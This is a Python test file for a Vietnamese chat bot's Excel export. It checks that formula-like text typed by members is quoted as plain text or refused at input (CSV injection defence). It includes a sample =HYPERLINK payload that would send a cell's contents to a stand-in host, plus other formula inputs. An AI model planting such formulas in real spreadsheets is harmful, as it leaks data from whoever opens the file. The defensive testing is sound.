"""Text typed by members never becomes a live formula in an export (OWASP "CSV injection").

A report may start with anything ("- dọn vệ sinh" is a list): it is stored as typed and its cell
is neutralised in the workbook. Names and absence reasons that start like a formula are refused at
input, with what to type instead.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import Chibo
from bot.channels.memory import MemoryChannel
from bot.cli import main
from bot.clock import ManualClock
from domain import roll_call as paper
from domain.errors import UserError
from domain.messages import Incoming
from domain.spreadsheet import neutral_cell, starts_like_formula
from handlers.context import HandlerSettings
from storage import org
from storage.db import Database
from storage.migrate import upgrade
from tests import seed
from tests.cell_setup import make_cell, say

HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&B3,"bấm vào đây")'
LIST = "- dọn vệ sinh"


async def _talk(app: Chibo, channel: MemoryChannel, user: str, text: str) -> list[str]:
    await app.handle(Incoming("console", user, text, chat_id=user))
    return [sent.reply.text for sent in channel.take()]


def _check_report_cells(path: Path) -> None:
    """Each hostile report reads back as a plain string that still shows what was typed."""
    sheet = load_workbook(path)["Báo cáo"]
    texts = {str(row[5].value): row[5] for row in sheet.iter_rows(min_row=2) if row[5].value}
    for typed in (HYPERLINK, LIST, "+84 903 000 000", "@chibo"):
        [cell] = [cell for value, cell in texts.items() if typed in value]
        assert cell.data_type == "s" and cell.value == "'" + typed, (typed, cell.value, cell.data_type)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(("typed", "neutral"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Nguyễn Văn An", "Nguyễn Văn An"), ("1 + 1 = 2", "1 + 1 = 2"), ("", ""),
])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(typed: str, neutral: str) -> None:
    assert neutral_cell(typed) == neutral
    assert starts_like_formula(typed) == (typed != neutral)


async def test_a_hyperlink_report_is_exported_as_text(db: Database, clock: ManualClock, tmp_path: Path) -> None:
    await seed.ward(db)
    app = Chibo(db, HandlerSettings(files_dir=str(tmp_path / "files")), clock=clock)
    channel = MemoryChannel(platform="console", max_text=1_000_000)
    app.add_channel(channel)
    for typed in (HYPERLINK, LIST, "+84 903 000 000", "@chibo"):
        [receipt] = await _talk(app, channel, "binh", f"/baocao 2 {typed}")
        assert receipt.startswith("Đã ghi báo cáo số")  # not refused: only the export neutralises
    await app.handle(Incoming("console", "binh", "/xuat", chat_id="binh"))
    [sent] = channel.take()
    assert sent.reply.document is not None
    _check_report_cells(Path(sent.reply.document))


def test_the_command_line_export_writes_the_hyperlink_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               clock: ManualClock) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path}/cli.db"
    upgrade(url)

    async def fill() -> None:
        database = Database(url)
        await seed.ward(database)
        app = Chibo(database, HandlerSettings(files_dir=str(tmp_path / "files")), clock=clock)
        channel = MemoryChannel(platform="console", max_text=1_000_000)
        app.add_channel(channel)
        for typed in (HYPERLINK, LIST, "+84 903 000 000", "@chibo"):
            await _talk(app, channel, "binh", f"/baocao 2 {typed}")
        await database.dispose()

    asyncio.run(fill())
    monkeypatch.setenv("DATABASE_URL", url)
    # bot.export's progress bar binds sys.stderr at import (maybe another test's closed capsys): import it
    # afresh here, and leave sys.modules as it was (tests/test_export.py checks its bar with capsys).
    monkeypatch.setitem(sys.modules, "bot.export", None)
    monkeypatch.delitem(sys.modules, "bot.export")
    out = tmp_path / "khu-pho-1.xlsx"
    assert main(["export", "--committee", "dang bo phuong ben thanh", "--cell", "khu pho 1", "--period",
                 f"thang-{clock.now().month}-{clock.now().year}", str(out)]) == 0
    _check_report_cells(out)


@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://x.invalid\")", "+Nguyễn Văn An", "-Nguyễn Văn An", "@An"])
def test_a_name_that_starts_like_a_formula_is_refused(typed: str) -> None:
    with pytest.raises(org.OrgError) as error:
        org.validate_name(typed)
    assert str(error.value) == ("Họ và tên không được bắt đầu bằng dấu =, +, -, @. "
                                "Vui lòng gõ lại bắt đầu bằng chữ, ví dụ: Nguyễn Văn An.")


def test_a_paper_roll_call_reason_that_starts_like_a_formula_is_refused() -> None:
    with pytest.raises(UserError) as error:
        paper.parse("giấy vắng có lý do: Bình (=HYPERLINK(\"http://x.invalid\"))")
    assert "Lý do của «Bình» không được bắt đầu bằng dấu =, +, -, @." in str(error.value)
    assert paper.parse("giấy vắng có lý do: Bình - ốm")[0].reason == "ốm"  # the " - " separator still reads


async def test_an_excuse_that_starts_like_a_formula_is_asked_again(app: Chibo, db: Database, clock: ManualClock,
                                                                   memory: MemoryChannel) -> None:
    await make_cell(db, clock.now())
    await say(app, "an", "/lichhop 05/12/2026 19:30")
    memory.take()
    await say(app, "dung", "/vang 1 =1+1")
    [asked] = [sent.reply.text for sent in memory.take()]
    assert asked == ("Lý do không được bắt đầu bằng dấu =, +, -, @. "
                     "Vui lòng gõ lại lý do bắt đầu bằng chữ, ví dụ: Đi công tác tỉnh.")
    await say(app, "dung", "Đi công tác tỉnh")
    assert any("Lý do: Đi công tác tỉnh." in sent.reply.text for sent in memory.take())


async def test_an_exemption_reason_that_starts_like_a_formula_is_refused(app: Chibo, db: Database,
                                                                          clock: ManualClock,
                                                                          memory: MemoryChannel) -> None:
    await make_cell(db, clock.now())
    await say(app, "an", "/mien 3 @SUM(A1)")
    texts = [sent.reply.text for sent in memory.take()]
    assert texts == ["Lý do không được bắt đầu bằng dấu =, +, -, @. Vui lòng gõ lại bắt đầu bằng chữ."]
